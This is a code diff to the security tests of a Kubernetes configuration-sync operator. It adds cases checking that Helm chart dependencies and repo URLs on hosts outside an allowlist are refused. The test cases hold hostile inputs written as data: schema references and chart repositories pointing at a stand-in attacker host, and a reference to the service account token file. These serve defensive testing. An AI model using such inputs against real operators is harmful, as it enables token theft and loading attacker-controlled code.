@@ -16,6 +16,7 @@ import (
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 
 	configsv1 "github.com/configsync/configsync/api/v1alpha1"
+	"github.com/configsync/configsync/charts"
 	"github.com/configsync/configsync/internal/testgit"
 )
 
@@ -52,12 +53,14 @@ func startLure(t *testing.T) *lure {
 // namespace and write its repository, tries in order to make the operator
 // reach the network, read a file or use an identity that is not its own.
 type tenantEscape struct {
-	name    string
-	files   func(host string) map[string]string
-	spec    func(cs *configsv1.ConfigSync)
-	setup   func(t *testing.T, ns string)
-	reason  string
-	message string
+	name  string
+	files func(host string) map[string]string
+	spec  func(cs *configsv1.ConfigSync)
+	setup func(t *testing.T, ns string)
+	// hostSpec, when set, writes the spec knowing the attacker's host.
+	hostSpec func(cs *configsv1.ConfigSync, host string)
+	reason   string
+	message  string
 }
 
 func tenantEscapes() []tenantEscape {
@@ -112,7 +115,13 @@ func tenantEscapes() []tenantEscape {
 		// Helm
 		{name: "helm schema $ref over http", files: chart(map[string]string{"chart/values.schema.json": `{"$ref": "http://ATTACKER/schema.json"}`}), spec: helm, reason: configsv1.ReasonRenderFailed, message: "refused"},
 		{name: "helm schema $ref to the operator's disk", files: chart(map[string]string{"chart/values.schema.json": `{"$ref": "file:///var/run/secrets/kubernetes.io/serviceaccount/token"}`}), spec: helm, reason: configsv1.ReasonRenderFailed, message: "refused"},
-		{name: "helm dependency from a repository", files: chart(map[string]string{"chart/Chart.yaml": "apiVersion: v2\nname: app\nversion: 0.1.0\ndependencies:\n- name: dep\n  version: 1.0.0\n  repository: http://ATTACKER/charts\n"}), spec: helm, reason: configsv1.ReasonRenderFailed, message: "dep"},
+		// Remote charts go only to the hosts the admin allows (the suite
+		// allows 127.0.0.1; the attacker is reached here as localhost).
+		{name: "helm dependency from a host off the allowlist", files: offAllowlist(chart(map[string]string{"chart/Chart.yaml": "apiVersion: v2\nname: app\nversion: 0.1.0\ndependencies:\n- name: dep\n  version: 1.0.0\n  repository: http://ATTACKER/charts\n"})),
+			spec: helm, reason: charts.ReasonChartHostNotAllowed, message: "not in the operator's allowed chart hosts"},
+		{name: "helm chart repoURL off the allowlist", files: chart(nil), hostSpec: func(cs *configsv1.ConfigSync, host string) {
+			cs.Spec.Render = []configsv1.RenderStep{{Helm: &configsv1.HelmStep{RepoURL: "http://" + localhost(host) + "/charts", Chart: "app"}}}
+		}, reason: charts.ReasonChartHostNotAllowed, message: "not in the operator's allowed chart hosts"},
 		// Jsonnet
 		{name: "jsonnet import over http", files: func(host string) map[string]string {
 			return map[string]string{"main.jsonnet": `import "http://` + host + `/lib.libsonnet"`}
@@ -136,6 +145,14 @@ func tenantEscapes() []tenantEscape {
 			createSecret(t, ns, "sops-keys", map[string]string{"age.agekey": string(readTestdata(t, "sops-age/age.agekey"))})
 		}, reason: configsv1.ReasonRenderFailed, message: "cloud KMS and Vault keys are not used"},
 	}
+}
+
+// localhost names the attacker's 127.0.0.1:port as localhost:port: the
+// same listener, by a name the suite's chart allowlist does not hold.
+func localhost(host string) string { return strings.Replace(host, "127.0.0.1", "localhost", 1) }
+
+func offAllowlist(files func(string) map[string]string) func(string) map[string]string {
+	return func(host string) map[string]string { return files(localhost(host)) }
 }
 
 // vaultOnlySops is the sops-age fixture re-keyed for a HashiCorp Vault key
@@ -203,7 +220,11 @@ func runEscape(t *testing.T, server *testgit.Server, att *lure, e tenantEscape) 
 	repo := server.NewRepo(t, sprintf("escape-%s.git", ns))
 	repo.Commit(t, e.files(att.host), e.name)
 	cs := newConfigSync(ns, "escape", repo.URL, "")
-	e.spec(cs)
+	if e.hostSpec != nil {
+		e.hostSpec(cs, att.host)
+	} else {
+		e.spec(cs)
+	}
 	before := att.requests.Load()
 	g.Expect(k8s.Create(ctx, cs)).To(Succeed())
 	var ready *metav1.Condition
